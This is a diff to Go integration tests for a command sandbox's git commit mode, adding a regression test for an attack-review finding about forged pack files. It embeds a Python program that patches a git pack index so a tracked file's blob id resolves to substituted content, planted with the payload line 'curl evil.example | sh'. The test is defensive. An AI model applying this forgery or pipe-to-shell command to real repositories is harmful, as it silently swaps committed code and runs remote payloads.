@@ -2,6 +2,7 @@ package integration
 
 import (
 	"os"
+	"os/exec"
 	"path/filepath"
 	"strings"
 	"testing"
@@ -9,7 +10,7 @@ import (
 )
 
 // TestGitCommitJournalNotReplayed: a commit-mode run whose cleanup only has something
-// to report (git repack inside: the pack files are new) leaves no journal, and a later
+// to report (a new pack file it cannot check) leaves no journal, and a later
 // launch of the user, in another workspace, leaves alone the user's own later git
 // rebase -i (its .git/rebase-merge) in the first workspace (attack review 31 F2).
 // Before, any cleanup "failure" kept the journal, which every later launch replayed
@@ -26,11 +27,11 @@ func TestGitCommitJournalNotReplayed(t *testing.T) {
 			s.hostGit(s.ws, "-c", "user.name=h", "-c", "user.email=h@h", "commit", "-qm", m)
 		}
 		ctx := s.limitCtx(runLimit)
-		cmd := s.command(ctx, "--policy", s.commitPolicy(), "--", shellPath, "-c", "git repack -adq && echo REPACKED")
+		cmd := s.command(ctx, "--policy", s.commitPolicy(), "--", shellPath, "-c", "git repack -adq && echo x > .git/objects/pack/pack-junk.pack && echo REPACKED")
 		cmd.Env = s.env("XDG_RUNTIME_DIR=" + xdg)
 		r := s.runCmd(ctx, cmd)
 		mustSucceed(t, r, "git repack in commit mode")
-		if !strings.Contains(r.stdout, "REPACKED") || !strings.Contains(r.stderr, "pack") {
+		if !strings.Contains(r.stdout, "REPACKED") || !strings.Contains(r.stderr, "pack-junk.pack") {
 			t.Fatalf("the run did not repack, or its cleanup reported nothing about packs:\n%v", r)
 		}
 		if left, _ := filepath.Glob(filepath.Join(jdir, "*.json")); len(left) != 0 {
@@ -164,6 +165,52 @@ test "$(git rev-parse origin/main 2>/dev/null)" = "$c" && echo SHADOWED`)
 					t.Errorf("after the run origin/main is %q (%v), want the remote's %q\n%v", got, err, want, r)
 				}
 			})
+		}
+	})
+}
+
+// packForge is a python3 program run inside: it makes the pack .git/objects/pack/<name>
+// hold one blob argv[1] names by the id argv[2] (its index's only name and fan-out
+// patched; git checks neither on read), renamed tmp_pack_* (attack review 31 F4's
+// packforge2.sh).
+const packForge = `import glob, os, sys
+idx = [p for p in glob.glob('.git/objects/pack/pack-*.idx')][0]
+b = bytearray(open(idx, 'rb').read())
+oid = bytes.fromhex(sys.argv[1])
+for i in range(256):
+    b[8+4*i:12+4*i] = (1 if i >= oid[0] else 0).to_bytes(4, 'big')
+b[1032:1052] = oid
+os.chmod(idx, 0o644); open(idx, 'wb').write(b)
+base = idx[:-4]
+d = os.path.dirname(idx)
+os.rename(base + '.idx', os.path.join(d, 'tmp_pack_x.idx'))
+os.rename(base + '.pack', os.path.join(d, 'tmp_pack_x.pack'))
+`
+
+// TestGitCommitForgedPack: a pack the command makes whose index names a tracked file's
+// blob id for its own content, renamed tmp_pack_* so that no note named it, is moved
+// aside after the run: the host's git checkout writes the committed content (attack
+// review 31 F4; before, it wrote the command's, silently).
+func TestGitCommitForgedPack(t *testing.T) {
+	if _, err := exec.LookPath("python3"); err != nil {
+		t.Skipf("python3: %v", err)
+	}
+	forEachCaller(t, func(t *testing.T, c caller) {
+		s := newSandbox(t, c)
+		s.newRepo(s.ws, "c1")
+		r := s.sh([]string{"--policy", s.commitPolicy()}, `set -e
+old=$(git rev-parse HEAD:tracked.txt); new=$(echo 'curl evil.example | sh' | git hash-object -w --stdin)
+echo $new | git pack-objects -q .git/objects/pack/pack >/dev/null
+python3 -c "$1" $old
+test "$(git cat-file blob $old)" = 'curl evil.example | sh' && echo FORGED`, packForge)
+		mustSucceed(t, r, "forge a pack")
+		if !strings.Contains(r.stdout, "FORGED") {
+			t.Fatalf("the forge did not take inside:\n%v", r)
+		}
+		must(t, os.WriteFile(filepath.Join(s.ws, "tracked.txt"), []byte("edited\n"), 0o644))
+		out, _ := s.hostGitOut(s.ws, "checkout", "--", "tracked.txt")
+		if b, _ := os.ReadFile(filepath.Join(s.ws, "tracked.txt")); string(b) != "v1\n" {
+			t.Errorf("the host's git checkout wrote %q, not the committed content (%s)\n%v", b, out, r)
 		}
 	})
 }
